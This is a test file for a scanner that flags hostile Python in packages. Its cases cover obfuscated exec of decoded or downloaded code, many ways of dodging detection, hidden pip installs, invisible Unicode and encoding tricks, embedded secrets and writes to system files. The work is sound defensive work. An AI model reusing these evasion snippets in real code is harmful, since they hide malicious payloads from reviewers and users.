import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Parser } from 'web-tree-sitter';
import { loadPython } from '../python/parse-python.js';
import { scanPackage } from './scan-package.js';

let parser: Parser;
beforeAll(async () => {
  parser = await loadPython();
});
afterAll(() => parser.delete());

const scan = (text: string, path = 'nodes.py') =>
  scanPackage({ texts: new Map([[path, text]]), paths: [path] }, parser);
const types = (text: string): string[] => [...new Set(scan(text).map(({ issue_type }) => issue_type))].sort();

describe('the scan blocks', () => {
  it.each([
    ['base64 in exec', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))'],
    ['base64 by another name', 'from base64 import b64decode as d\nexec(d(blob))'],
    ['a module by another name', 'import zlib as z, base64 as b\neval(z.decompress(b.b85decode(x)).decode())'],
    ['getattr of a built-in', 'import zlib\ngetattr(__builtins__, "exec")(zlib.decompress(data))'],
    ['getattr with a name in parts', "import zlib\ngetattr(__builtins__, 'ex' + 'ec')(zlib.decompress(data))"],
    ['getattr with an escaped name', "import builtins, zlib\ngetattr(builtins, '\\x65xec')(zlib.decompress(data))"],
    ['an item of the built-ins', 'import zlib\n__builtins__["eval"](zlib.decompress(data))'],
    ['an item of their dictionary', 'import builtins, zlib\nbuiltins.__dict__["eval"](zlib.decompress(data))'],
    ['exec under another name', 'import base64\nrun = exec\nrun(base64.b64decode(x))'],
    ['decoded data in a name', 'import base64\ndef f():\n    code = base64.b64decode(x)\n    exec(code)'],
    ['decoded data in four names', 'import base64\na = base64.b64decode(x)\nb = a\nc = b\nd = c\nexec(d)'],
    ['decoded data in a parameter', 'import base64\ndef run(c): exec(c)\nrun(base64.b64decode(x))'],
    ['decoded data in a named parameter', 'import base64\ndef run(a, c): exec(c)\nrun(1, c=base64.b64decode(x))'],
    ['decoded data in all parameters', 'import base64\ndef run(*c): exec(c[0])\nrun(base64.b64decode(x))'],
    ['decoded data of a caller', 'import base64\ndef run(c): exec(c)\ndef f():\n  d = base64.b64decode(x)\n  run(d)'],
    ['decoded data in a lambda', 'import base64\n(lambda c: exec(c))(base64.b64decode(x))'],
    ['decoded data in a named lambda', 'import base64\nrun = lambda c: exec(c)\nrun(base64.b64decode(x))'],
    [
      'decoded data in a method',
      'import zlib\nclass A:\n  def r(self, c): exec(c)\n  def f(self): self.r(zlib.decompress(x))',
    ],
    ['decoded data in a loop', 'import base64\nfor c in [base64.b64decode(x)]: exec(c)'],
    ['decoded data in a comprehension', 'import base64\n[exec(c) for c in [base64.b64decode(x)]]'],
    ['decoded data in an f-string', 'import base64\nexec(f"{base64.b64decode(x).decode()}")'],
    ['a decoded name in an f-string', 'import base64\na = base64.b64decode(x)\nexec(rf"{a}")'],
    ['characters by map', 'exec("".join(map(chr, [112, 114])))'],
    ['decoded data in a file', 'import io, base64\nwith io.BytesIO(base64.b64decode(x)) as f: exec(f.read())'],
    ['a compressed file', 'import gzip\nexec(gzip.open("x").read())'],
    ['decoded data in two names', 'import base64\nraw = base64.b64decode(x)\ncode = raw.decode()\nexec(code)'],
    ['a function that decodes', 'import base64\ndef load(x):\n    return base64.b64decode(x)\nexec(load(s))'],
    ['a lambda that decodes', 'import base64\nf = lambda x: base64.b64decode(x)\nexec(f(s))'],
    [
      'an attribute of self',
      'import base64\nclass A:\n    def a(self):\n        self.c = base64.b64decode(x)\n    def b(self):\n        exec(self.c)',
    ],
    ['an imported module in the expression', 'exec(__import__("base64").b64decode(x))'],
    ['importlib in the expression', 'import importlib\nexec(importlib.import_module("zlib").decompress(x))'],
    ['compile', 'import base64\nc = compile(base64.b64decode(x), "a", "exec")'],
    ['marshal and a function of it', 'import marshal, types\ntypes.FunctionType(marshal.loads(b), globals())()'],
    ['hexadecimal digits', 'exec(bytes.fromhex("7072"))'],
    ['characters by number', 'exec("".join(chr(i) for i in [112, 114]))'],
    ['rot13', 'import codecs\nexec(codecs.decode("cevag", "rot13"))'],
    ['rot13 of a string', 'exec("cevag".decode("rot-13"))'],
    ['map', 'import base64\nlist(map(exec, [base64.b64decode(x)]))'],
    ['an assignment in the expression', 'import base64\nexec(c := base64.b64decode(x))'],
    ['a downloaded text', 'import requests\nexec(requests.get("https://x.example/a.py").text)'],
    ['behind a comment that a carriage return ends', 'import base64\n#\rexec(base64.b64decode(x))\n'],
    ['exec in full-width letters', 'import base64\nｅｘｅｃ(base64.b64decode(x))'],
    ['exec in mathematical letters', 'import base64\n𝐞𝐱𝐞𝐜(base64.b64decode(x))'],
    ['decorators', 'import base64\n@exec\n@base64.b64decode\n@str\ndef f(): pass'],
    ['a decorator with a lambda', 'import base64\n@exec\n@lambda _: base64.b64decode(x)\nclass A: pass'],
    ['decorators of the file', 'import zlib\ndef d(f):\n  return zlib.decompress(x)\n@eval\n@d\ndef f(): pass'],
    ['a decorator in a function', 'import zlib as z\ndef g():\n  @exec\n  @z.decompress\n  def f(): pass'],
    ['a decorator by getattr', 'import base64\n@getattr(__builtins__, "exec")\n@base64.b64decode\ndef f(): pass'],
    ['a text that is repaired', 'exec("pr#int(1)".replace("#", ""))'],
    ['a text that is repaired twice', 'exec("p?r#int(1)".replace("#", "").replace("?", ""))'],
    ['a repaired text in a name', 'a = "pr#int(1)"\nb = a.replace("#", "")\nexec(b)'],
    ['a pickle', 'import pickle\nexec(pickle.loads(x))'],
    ['urlopen', 'from urllib.request import urlopen\nexec(urlopen(u).read())'],
  ])('decoded code: %s', (_, code) => {
    expect(types(code)).toContain('decoded-exec');
    expect(types(code)).not.toContain('eval-exec');
  });

  it.each([
    ['os.system', 'import os\nos.system("pip install x")'],
    ['an f-string', 'import os, sys\nos.system(f"{sys.executable} -m pip install {name}")'],
    ['names in compatibility letters', 'import ｏｓ\nｏｓ.ｓｙｓｔｅｍ("pip install x")'],
    ['a word in two parts', 'import subprocess\nsubprocess.run("pi" + "p install x", shell=True)'],
    ['a sum', 'import os\nos.system("pip3 install " + name)'],
    ['subprocess', 'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "x"])'],
    ['subprocess by another name', 'import subprocess as s\ns.run("pip install x", shell=True)'],
    ['a name from subprocess', 'from subprocess import Popen\nPopen(["/usr/bin/pip3.11", "install", "x"])'],
    [
      'a command in a name',
      'import subprocess, sys\ndef f():\n    cmd = [sys.executable, "-m", "pip"]\n    cmd += ["install", "x"]\n    subprocess.run(cmd)',
    ],
    ['a command that grows', 'import subprocess\ncmd = ["pip"]\ncmd.append("install")\nsubprocess.run(cmd)'],
    [
      'a wrapper',
      'import subprocess\ndef pip(*args):\n    subprocess.run(["python", "-m", "pip", *args])\npip("install", "x")',
    ],
    ['a wrapper for any command', 'import os\ndef sh(c):\n    os.system(c)\nsh("pip install x")'],
    [
      'a method',
      'import os\nclass A:\n    def sh(self, c):\n        os.system(c)\n    def a(self):\n        self.sh("pip install x")',
    ],
    ['pip itself', 'import pip\npip.main(["install", "x"])'],
    ['the inside of pip', 'from pip._internal import main\nmain(["install", "x"])'],
    ['pip by import', '__import__("pip").main(["install", "x"])'],
    ['os by import', '__import__("os").system("pip install x")'],
    ['getattr of os', 'import os\ngetattr(os, "system")("pip install x")'],
    ['uv', 'import subprocess\nsubprocess.run(["uv", "pip", "install", "x"])'],
    ['conda', 'import os\nos.system("conda install -y x")'],
    ['apt', 'import os\nos.system("apt-get install -y ffmpeg")'],
    ['runpy', 'import runpy, sys\nsys.argv = ["pip", "install", "x"]\nrunpy.run_module("pip")'],
    ['asyncio', 'import asyncio\nasync def f():\n    await asyncio.create_subprocess_exec("pip", "install", "x")'],
  ])('an installation: %s', (_, code) => {
    const [first] = scan(code);
    expect(first).toMatchObject({ issue_type: 'pip-install', severity: 'block' });
    expect(scan(code).filter((one) => one.line_number === first?.line_number)).toHaveLength(1);
  });

  it.each([
    ['a right-to-left override', 'x = "\u202e"'],
    ['a mark', 'x = "\u200f"'],
    ['an isolate in a comment', '# a \u2066 b'],
    ['selectors that carry data', 'x = "\ufe01\ufe0f\ufe0e"'],
    ['a selector in an identifier', 'a\ufe0f = 1'],
    ['selectors of the supplement', 'x = "\u{e0101}\u{e0102}"'],
    ['more selectors than the emoji needs', 'x = "⚠\ufe0f\ufe0f"'],
    ['a Mongolian variation selector', 'a\u180b = 1'],
    ['the fourth Mongolian variation selector', 'x = "a\u180f"'],
  ])('hidden characters: %s', (_, code) => expect(types(code)).toEqual(['hidden-characters']));

  it.each([
    ['in the first line', '# coding: utf-7\n#+AAo-exec(x)\n'],
    ['of an editor, in the second line', '#!/usr/bin/env python\n# vim: set fileencoding=utf7 :\nx = 1\n'],
    ['behind a carriage return', '# a\r# -*- coding: unicode_escape -*-\rx = 1\r'],
    ['with bytes that are ASCII in letters', '# -*- coding: shift_jis -*-\nx = 1\n'],
  ])('an encoding %s', (_, code) => {
    expect(scan(code)).toMatchObject([{ issue_type: 'hidden-characters', severity: 'block' }]);
  });

  it.each([
    ['a GitHub token', `t = "ghp_${'aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0dF3hJ6'}"`],
    ['a token in a comment', `# AKIA${'Q3EGRVTYU7OPZSX2'}`],
    ['a Hugging Face token', `t = "hf_${'aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH'}"`],
    ['a private key', `k = """-----BEGIN RSA PRIVATE KEY-----\n${'MIIEowIBAAKCAQEAu1SU1LfVLPHCozMx'.repeat(3)}\n"""`],
    [
      'a private key on one line',
      `k = "-----BEGIN PRIVATE KEY-----\\n${'MIIEowIBAAKCAQEAu1SU1LfVLPHCozMx'.repeat(3)}"`,
    ],
  ])('secrets: %s', (_, code) => expect(types(code)).toContain('secret'));

  it('secrets of a TOML file too, and shows the first four characters of one alone', () => {
    const token = 'ghp_aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0dF3hJ6';
    const [finding] = scan(`[tool]\ntoken = "${token}" # mine`, 'pyproject.toml');
    expect(finding).toMatchObject({ issue_type: 'secret', line_number: 2, code_snippet: 'token = "ghp_…" # mine' });
  });

  it.each(['a.so', 'lib/b.so.1.2', 'c.PYD', 'd.dll', 'e.exe', 'f.dylib', 'g.pth', 'h.whl'])('the file %s', (path) => {
    const [finding, ...others] = scanPackage({ texts: new Map(), paths: [path, 'a.txt', 'so', 'x.pt'] }, parser);
    expect(finding).toMatchObject({ issue_type: 'binary', severity: 'block', file_path: path, line_number: 0 });
    expect(others).toEqual([]);
  });
});

describe('the scan warns of', () => {
  it.each([
    ['eval-exec', 'eval(text)'],
    ['eval-exec', '@eval\ndef f(): pass'],
    ['eval-exec', 'def f(x):\n  eval(x.replace("^", "**"))'],
    ['eval-exec', 'x = "1"\ndef f(x):\n  eval(x.replace("^", "**"))'],
    ['eval-exec', 'exec("def NAME(): pass".replace("NAME", name))'],
    ['eval-exec', 'exec("if a:\\n\\tb".replace("\\t", "  "))'],
    ['eval-exec', 'def f(x):\n    exec(open(x).read())'],
    ['subprocess', 'import subprocess\ndef f():\n    subprocess.run(["ffmpeg", "-i", a])'],
    ['subprocess', '__import__("os").system("ls")'],
    ['network-at-import', 'import requests\nr = requests.get("https://x.example")'],
    ['network-at-import', 'import urllib.request as u\nclass A:\n    x = u.urlopen("https://x.example").read()'],
    ['network-at-import', 'import socket\ns = socket.socket()\ns.connect(("x.example", 1))'],
    ['write-outside', 'open("/etc/passwd", "w")'],
    ['write-outside', 'import os\nwith open(os.path.expanduser("~/.bashrc"), mode="a") as f: pass'],
    ['write-outside', 'import shutil\ndef f():\n    shutil.rmtree("../other")'],
    ['write-outside', 'from pathlib import Path\nPath("/etc/x").write_text("a")'],
    ['write-outside', 'import os\nHOME = os.path.expanduser("~")\nopen(os.path.join(HOME, "x"), "wb")'],
    ['long-literal', `x = "${'QUJDREVGR0hJSktM'.repeat(200)}"`],
    ['long-literal', `x = b"${'\\x9c'.repeat(600)}"`],
    ['long-literal', `x = (\n${`  "${'QUJDREVGR0hJSktM'.repeat(5)}"\n`.repeat(40)})`],
  ])('%s: %s', (type, code) => {
    expect(scan(code)).toMatchObject([{ issue_type: type, severity: 'warn' }]);
  });
});

describe('the scan finds nothing in', () => {
  it.each([
    ['an ordinary node', ORDINARY()],
    ['a message about pip', 'try:\n    import x\nexcept ImportError:\n    raise ImportError("run: pip install x")'],
    [
      'parameters of four calls',
      'import zlib\ndef a(p): compile(p, 1, 2)\ndef b(p): a(p)\ndef c(p): b(p)\ndef d(p): c(p)\nd(zlib.decompress(x))',
    ],
    ['a comment about pip', '# os.system("pip install x")\n"""subprocess.run(["pip", "install"])"""'],
    ['a printed command', 'print("pip install x")'],
    [
      'methods named eval and compile',
      'import re, torch\nre.compile("a")\nmodel.eval()\ntorch.compile(m)\ndf.eval("a")',
    ],
    ['decorators with arguments', 'import app\n@app.get("/x")\n@app.put(path="/y")\ndef f(): return 1'],
    ['a decoded decorator', 'import base64\n@base64.b64decode\ndef f(): pass'],
    ['a decoded image', 'import base64\ndef f(x):\n    return Image.open(BytesIO(base64.b64decode(x)))'],
    ['literal_eval', 'import ast\nast.literal_eval(x)'],
    ['requests in a function', 'import requests\ndef f():\n    return requests.get(u).json()'],
    ['requests below main', 'import requests\nif __name__ == "__main__":\n    requests.get(u)'],
    ['a session without a request', 'import requests\ns = requests.Session()'],
    ['files of the package', 'import os\nopen(os.path.join(os.path.dirname(__file__), "a.json"), "w")'],
    ['a file read from elsewhere', 'open("/etc/hosts")\nopen("/usr/share/fonts/a.ttf", "rb")'],
    ['a temporary file', 'open("/tmp/a", "w")'],
    ['a declared UTF-8', '# -*- coding: utf-8 -*-\nx = "é"\n'],
    ['a declared Latin-1, for an editor', '#!/usr/bin/python\n# vim: set fileencoding=Latin_1 :\nx = 1\n'],
    ['an encoding below the second line', '# a\n# b\n# coding: utf-7\n'],
    ['an encoding behind code', 'x = 1\n# coding: utf-7\n'],
    ['signs that stand for letters', 'CATEGORY = "Tool™️ ℹ️ Ⓜ️"'],
    ['emoji', 'CATEGORY = "⚠️ tools/❤️/1️⃣ ‼️"  # ✔️'],
    ['an ideograph with a selector', 'x = "葛\u{e0100}"'],
    ['right-to-left text', 'x = "שלום עולם"'],
    ['a placeholder', `t = "ghp_${'x'.repeat(36)}"\nk = "AKIAIOSFODNN7EXAMPLE"\nh = "hf_${'x'.repeat(34)}"`],
    ['a test for a private key', 'if text.startswith("-----BEGIN PRIVATE KEY-----"): pass'],
    ['long prose', `x = """${'A long text with ordinary words in it. '.repeat(200)}"""`],
  ])('%s', (_, code) => expect(scan(code)).toEqual([]));
});

function ORDINARY(): string {
  return `
import os, json
import numpy as np
import torch
from PIL import Image
import folder_paths

class SaveIt:
    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"image": ("IMAGE",), "name": (sorted(os.listdir(folder_paths.get_input_directory())),)}}
    RETURN_TYPES = ("IMAGE",)
    FUNCTION = "run"
    CATEGORY = "image"

    def run(self, image, name):
        import requests
        r = requests.get("https://x.example/" + name)
        out = os.path.join(folder_paths.get_output_directory(), name)
        with open(out, "wb") as f:
            f.write(r.content)
        np.save(out, image.cpu().numpy())
        os.makedirs(os.path.dirname(out), exist_ok=True)
        return (torch.from_numpy(np.array(Image.open(out))),)

NODE_CLASS_MAPPINGS = {"SaveIt": SaveIt}
`;
}

describe('a finding', () => {
  it('has the line, its text, and the path in the archive', () => {
    const files = { texts: new Map([['a.py', '\r\nx = 1\r\n  eval(x)  \r\n']]), paths: ['top/a.py'], top: 'top/' };
    expect(scanPackage(files, parser)).toEqual([
      {
        issue_type: 'eval-exec',
        severity: 'warn',
        file_path: 'top/a.py',
        line_number: 3,
        code_snippet: 'eval(x)',
        message: expect.stringContaining('Runs text as code.'),
        scanner: 'heddle',
      },
    ]);
  });

  it('shows at most 200 characters around its place', () => {
    const [finding] = scan(`x = [${'1,'.repeat(5000)} eval(y), ${'2,'.repeat(5000)}]`);
    expect(finding?.code_snippet.length).toBeLessThanOrEqual(200);
    expect(finding?.code_snippet).toContain('eval(y)');
  });

  it('is one of at most 100, those that block first', () => {
    const findings = scan(`${'eval(x)\n'.repeat(300)}exec(bytes.fromhex(x))\n`);
    expect(findings).toHaveLength(100);
    expect(findings[0]).toMatchObject({ issue_type: 'decoded-exec', line_number: 301 });
  });

  it('is made of damaged entries and of files that were not read', () => {
    const files = {
      texts: new Map(),
      paths: ['p/a.py'],
      top: 'p/',
      unread: ['a.py'],
      damage: [{ path: 'p/b', problem: 'It lies.' }],
    };
    expect(scanPackage(files, parser)).toMatchObject([
      { issue_type: 'archive', severity: 'block', file_path: 'p/b', message: 'It lies.' },
      { issue_type: 'archive', severity: 'block', file_path: 'p/a.py' },
    ]);
  });
});

describe('the scan of hostile Python ends', () => {
  const HOSTILE: [string, string][] = [
    ['50,000 brackets', `x = ${'['.repeat(50_000)}${']'.repeat(50_000)}`],
    ['50,000 open brackets', '('.repeat(50_000)],
    ['nested calls', `${'f('.repeat(50_000)}${')'.repeat(50_000)}`],
    ['nested exec', `${'exec('.repeat(50_000)}${')'.repeat(50_000)}`],
    ['chained calls', `x${'()'.repeat(100_000)}`],
    ['chained attributes', `x${'.a'.repeat(200_000)}()`],
    ['many processes of a long list', `import os\nc = [${'"a",'.repeat(5000)}]\n${'os.system(c)\n'.repeat(20_000)}`],
    ['many processes of a sum', `import os\nc = ${'"a"+'.repeat(190)}"a"\n${'os.system(c)\n'.repeat(60_000)}`],
    ['compatibility letters', `${'ｘ'.repeat(200_000)} = "${'\ufdfa\uff41'.repeat(100_000)}"`],
    [
      'names that are given to each other',
      `${Array.from({ length: 20_000 }, (_, i) => `a${i} = a${i + 1}`).join('\n')}\na0(a0)`,
    ],
    ['names that go round', 'a = b\nb = a\na(b)\nexec(a)'],
    ['a long sum', `x = ${'"a"+'.repeat(100_000)}"a"\ngetattr(y, x)()`],
    ['a line of 4 MB', `x = "${'A'.repeat(4_000_000)}"`],
    ['a line of 1 MiB of numbers', `x = [${'1,'.repeat(500_000)}]`],
    ['selectors', `x = "${'\ufe01'.repeat(300_000)}"`],
    ['beginnings of keys', '-----BEGIN PRIVATE KEY-----\\n'.repeat(30_000)],
  ];
  it.each(HOSTILE)('%s', (_, code) => {
    const start = performance.now();
    scan(code);
    expect(performance.now() - start).toBeLessThan(30_000);
  });

  it.each([
    ['errors on every line', 'x = = 1\n', ''],
    ['a call on every line', 'exec(a)\n', ''],
    ['processes of a sum', 'os.system(c)\n', `import os\nc = ${'"a"+'.repeat(190)}"a"\n`],
    ['calls behind many main blocks', 'f()\n', 'if __main__:a\n'.repeat(40_000)],
  ])('with 1 MiB of %s within 3 s of the thread', (_, line, head) => {
    const text = head + line.repeat(Math.floor((1_048_576 - head.length) / line.length));
    const measured = (): number => {
      const before = process.threadCpuUsage();
      scan(text);
      const { user, system } = process.threadCpuUsage(before);
      return (user + system) / 1_000;
    };
    // A third more, because other work on the machine makes each step dearer; at times it doubles them.
    const isFast = [1, 2, 3].some(() => measured() < 4_000);
    expect(isFast).toBe(true);
  });

  it('and finds what stands behind noise, NUL, a byte order mark and Latin-1', () => {
    const code = 'import os\nos.system("pip install x")\n';
    expect(types(`${'['.repeat(1000)}${']'.repeat(1000)}\n${code}`)).toContain('pip-install');
    expect(types(`x = "\0"\n${code}`)).toContain('pip-install');
    expect(types(`x = "caf\u00e9"\n${code}`)).toContain('pip-install');
    expect(types(`def f(:\n${code}`)).toContain('pip-install');
  });

  it('and says so where it gives up', () => {
    expect(
      scanPackage({ texts: new Map([['a.py', 'x = [1]\n'.repeat(50_000)]]), paths: ['a.py'] }, parser, 0),
    ).toMatchObject([{ issue_type: 'archive', severity: 'block', file_path: 'a.py', line_number: 0 }]);
  });
});

describe('a finding can be stored', () => {
  it.each([
    [
      'a cut through a character of two units',
      `import base64; exec(base64.b64decode("${'x'.repeat(157)}${'\u{1f600}'.repeat(9)}"))`,
    ],
    ['NUL', 'import base64\nexec(base64.b64decode("a\0b"))'],
  ])('after %s', (_, text) => {
    const snippets = scan(text).map(({ code_snippet }) => code_snippet);
    expect(snippets.length).toBeGreaterThan(0);
    for (const snippet of snippets) {
      expect(snippet.isWellFormed()).toBe(true);
      expect(snippet).not.toContain('\0');
    }
  });
});
